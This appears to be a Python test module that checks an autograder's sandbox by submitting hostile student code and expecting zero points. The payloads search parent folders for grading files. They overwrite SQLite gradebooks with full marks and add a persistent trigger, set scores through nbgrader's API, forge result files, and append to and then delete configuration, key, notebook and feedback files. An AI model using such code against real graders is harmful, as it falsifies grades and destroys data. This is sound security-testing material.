"""Attacks on what the grader writes: the gradebook, the feedback, the journal, the key, the configuration."""

from tools.attacks.attack import Desk, attack
from tools.attacks.handing import WRONG_BOTH, hand_in

FAMILY = "gradebook writes"
UPWARDS = """
from pathlib import Path

def around(*names):
    here = Path.cwd()
    for folder in [here, *here.parents, Path("/work"), Path("/srv"), Path("/course")]:
        for name in names:
            yield from folder.glob(name)
"""


@attack(family=FAMILY, deserved=0)
def points_by_sqlite(desk: Desk) -> None:
    """Write full points into every gradebook around, and leave a trigger that goes on doing so."""
    write = """
import sqlite3

for place in {*around("gradebook.db", "*.db", "*/gradebook.db"), Path("gradebook.db")}:
    try:
        with sqlite3.connect(place, timeout=1) as book:
            book.execute("UPDATE grade SET auto_score = 7, manual_score = 7, needs_manual_grade = 0")
            book.execute("CREATE TRIGGER again AFTER UPDATE ON grade BEGIN UPDATE grade SET manual_score = 7; END")
    except sqlite3.Error as error:
        print(place, error)
"""
    hand_in(desk, UPWARDS + write, *WRONG_BOTH)


@attack(family=FAMILY, deserved=0)
def points_by_nbgrader(desk: Desk) -> None:
    """Write points through nbgrader's own API, for every student, at the places that nbgrader takes by itself."""
    write = """
try:
    from nbgrader.api import Gradebook

    for place in {*around("gradebook.db"), Path("gradebook.db").absolute()}:
        with Gradebook(f"sqlite:///{place}") as book:
            for submission in book.assignment_submissions("02_rcnn"):
                for notebook in submission.notebooks:
                    for grade in notebook.grades:
                        grade.manual_score = 7
            book.db.commit()
except Exception as error:
    print(error)
"""
    hand_in(desk, UPWARDS + write, *WRONG_BOTH, last=UPWARDS + write)


@attack(family=FAMILY, deserved=0)
def results_of_my_own(desk: Desk) -> None:
    """Put a finished result where the grader keeps its journal, and outputs where it keeps graded notebooks."""
    write = """
import json

names = ("alice", "bob", "student", Path.cwd().parent.name, Path.cwd().name)
for folder in around("", ".grading", "autograded", "feedback", "submitted"):
    for name in names:
        for place in (folder / "02_rcnn" / f"{name}.json", folder / name / "02_rcnn" / "02_rcnn.json"):
            try:
                place.parent.mkdir(parents=True, exist_ok=True)
                place.write_text(json.dumps({"unit": "02_rcnn", "student": name, "points": 7}))
            except OSError as error:
                print(error)
"""
    hand_in(desk, UPWARDS + write, *WRONG_BOTH)


@attack(family=FAMILY, deserved=0)
def feedback_and_configuration(desk: Desk) -> None:
    """Append to every page, configuration and notebook around, and to the host's file."""
    write = f"""
host = Path({str(desk.canary)!r})
for place in [*around("nbgrader_config.py", "*.html", "autograder.key", "../*.ipynb", "*.ipynb"), host]:
    try:
        with place.open("a") as file:
            file.write("changed by a student")
    except OSError as error:
        print(place, error)
    try:
        place.unlink()
    except OSError as error:
        print(place, error)
"""
    hand_in(desk, UPWARDS + write, *WRONG_BOTH)
